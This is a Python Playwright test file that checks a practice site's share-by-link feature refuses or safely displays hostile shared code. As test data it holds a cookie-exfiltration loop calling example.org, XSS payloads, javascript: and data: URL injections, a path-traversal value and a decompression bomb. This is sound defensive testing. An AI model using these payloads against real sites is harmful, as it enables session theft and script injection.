"""The faults 49 to 52 of the catalogue: code that comes in a link is shown, and never run, believed or preferred."""

from __future__ import annotations

import base64
import random
import zlib
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from playbook.chromium import browser, served
from playbook.commands import SITE
from playbook.reports import write_table
from tests.browser.conftest import ROOT
from tests.browser.test_reader import FIRST, open_drill, write

SCRATCH = "practice/scratch/"
HOSTILE = (
    "import js\nwhile True:\n    js.fetch('https://example.org/?' + str(js.document.cookie))\n"
    "# </pre><img src=x onerror='window.hit = 1'><script>window.hit = 1</script>\n"
)
ROWS: list[dict[str, str]] = []


@pytest.fixture(scope="module", autouse=True)
def table() -> Iterator[None]:
    yield
    write_table(ROOT, "faults-links", ROWS, "Faults of links")


def held(number: int, fault: str) -> None:
    ROWS.append({"fault": f"{number} {fault}", "engine": "chromium", "result": "as it should be"})


@pytest.fixture(scope="module")
def address() -> Iterator[str]:
    with served(SITE) as url:
        yield url


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with browser() as started:
        yield started


@pytest.fixture
def reader(chromium: Browser, address: str) -> Iterator[BrowserContext]:
    context = chromium.new_context(permissions=["clipboard-read", "clipboard-write"])
    strangers: list[str] = []
    context.on("request", lambda request: strangers.append(request.url))
    yield context
    context.close()
    assert [url for url in strangers if not url.startswith((address, "blob:", "data:", "about:"))] == []


def packed(code: str | bytes) -> str:
    raw = code.encode() if isinstance(code, str) else code
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.urlsafe_b64encode(deflate.compress(raw) + deflate.flush()).decode().rstrip("=")


def text_of(page: Page) -> str:
    return page.locator(".pb-scratch .pb-sample").inner_text()


def test_a_link_carries_the_code_to_the_scratch_pad(reader: BrowserContext, address: str) -> None:
    page = reader.new_page()
    open_drill(page, address, FIRST)
    write(page, "shared = 'ünïcode \U0001f40d'\n")
    page.get_by_role("button", name="Share").click()
    expect(page.locator(".pb-bench .pb-notice")).to_contain_text("on the clipboard")
    link = page.evaluate("navigator.clipboard.readText()")
    assert link == page.locator(".pb-link").input_value()
    other = reader.new_page()
    other.goto(link)
    banner = other.locator(".pb-shared")
    expect(banner).to_contain_text("shared = 'ünïcode \U0001f40d'")
    expect(banner.get_by_role("link")).to_have_attribute("href", f"../drills/{FIRST}/")
    other.get_by_role("button", name="Put it into the editor").click()
    expect(other.locator(".pb-scratch .cm-content")).to_contain_text("shared =")
    expect(banner).to_be_hidden()
    assert "#" not in other.url


def test_hostile_shared_code_is_shown_and_never_run(reader: BrowserContext, address: str) -> None:
    page = reader.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(f"{address}{SCRATCH}#code=1.{packed(HOSTILE)}")
    banner = page.locator(".pb-shared")
    expect(banner).to_contain_text("It has not been run")
    expect(banner.locator("pre")).to_contain_text("onerror")
    page.wait_for_timeout(1500)
    assert banner.locator("img, script").count() == 0
    assert page.evaluate("window.hit === undefined")
    assert [url for url in asked if "/runtime/" in url] == []
    assert "js.fetch" not in text_of(page)
    page.get_by_role("button", name="Put it into the editor").click()
    expect(page.locator(".pb-scratch .cm-content")).to_contain_text("js.fetch")
    page.wait_for_timeout(500)
    assert page.locator(".pb-sample__output").is_hidden()
    held(49, "hostile shared code")


@pytest.mark.parametrize(
    ("number", "fault", "fragment", "reason"),
    [
        (50, "javascript: address", "#javascript:window.hit=1", "none of this site's"),
        (50, "data: address", "#data:text/html,<script>window.hit=1</script>", "none of this site's"),
        (50, "code by address", "#url=https://example.org/evil.py", "none of this site's"),
        (50, "javascript: as code", "#code=javascript:window.hit=1", "none of this site's"),
        (51, "no code", "#code=1.", "none of this site's"),
        (51, "another version", "#code=2.AAAA", "none of this site's"),
        (51, "not base64", "#code=1.!!!!", "none of this site's"),
        (51, "not compressed", "#code=1.AAAAAAAA", "cannot be read"),
        (51, "cut off", f"#code=1.{packed(HOSTILE)[:60]}", "cannot be read"),
        (51, "no text", f"#code=1.{packed(bytes(range(200, 256)))}", "cannot be read"),
        (51, "oversize", f"#code=1.{'A' * 9000}", "longer than 8000"),
        (51, "bomb", f"#code=1.{packed(chr(32) * 5_000_000)}", "too long"),
        (51, "hostile drill", f"#code=1.{packed('x')}&drill=../../evil", "none of this site's"),
    ],
)
def test_what_is_no_link_of_ours_is_refused(
    reader: BrowserContext, address: str, number: int, fault: str, fragment: str, reason: str
) -> None:
    page = reader.new_page()
    page.goto(f"{address}{SCRATCH}{fragment}")
    expect(page.locator(".pb-shared")).to_contain_text("Refused: ")
    expect(page.locator(".pb-shared")).to_contain_text(reason)
    expect(page.locator(".pb-shared")).to_contain_text("nothing changed.")
    assert 'print("ready")' in text_of(page)
    assert page.evaluate("window.hit === undefined")
    page.get_by_role("button", name="Run").click()
    expect(page.locator(".pb-sample__output")).to_have_text("ready\n", timeout=60_000)
    held(number, fault)


def test_a_link_over_an_unfinished_draft_leaves_the_draft(reader: BrowserContext, address: str) -> None:
    page = reader.new_page()
    page.goto(address + SCRATCH)
    page.get_by_role("button", name="Edit").click()
    page.locator(".pb-scratch .cm-content").click()
    page.keyboard.press("ControlOrMeta+a")
    page.keyboard.insert_text("mine = 'half typed'")
    expect(page.locator(".pb-scratch .pb-saved")).to_have_text("Saved")
    other = reader.new_page()
    other.goto(f"{address}{SCRATCH}#code=1.{packed('theirs = 1')}")
    expect(other.locator(".pb-shared")).to_contain_text("theirs = 1")
    expect(other.locator(".pb-scratch .pb-sample__code")).to_contain_text("mine = 'half typed'")
    other.get_by_role("button", name="Leave my code as it is").click()
    other.reload()
    expect(other.locator(".pb-scratch .pb-sample__code")).to_contain_text("mine = 'half typed'")
    other.goto(f"{address}practice/")
    other.goto(f"{address}{SCRATCH}#code=1.{packed('theirs = 2')}")
    other.get_by_role("button", name="Put it into the editor").click()
    expect(other.locator(".pb-scratch .cm-content")).to_have_text("theirs = 2")
    other.get_by_role("button", name="Bring my code back").click()
    expect(other.locator(".pb-scratch .cm-content")).to_have_text("mine = 'half typed'")
    held(52, "link over an unfinished draft")


def test_code_that_is_too_long_for_a_link_is_offered_as_a_file(reader: BrowserContext, address: str) -> None:
    page = reader.new_page()
    open_drill(page, address, FIRST)
    noise = base64.b64encode(random.Random(1).randbytes(9000)).decode()
    write(page, f"noise = {noise!r}")
    page.get_by_role("button", name="Share").click()
    expect(page.locator(".pb-bench .pb-notice")).to_contain_text("too long for a link")
    with page.expect_download() as download:
        page.locator(".pb-bench .pb-notice").get_by_role("button", name="Download").click()
    assert download.value.suggested_filename == f"{FIRST}.py"
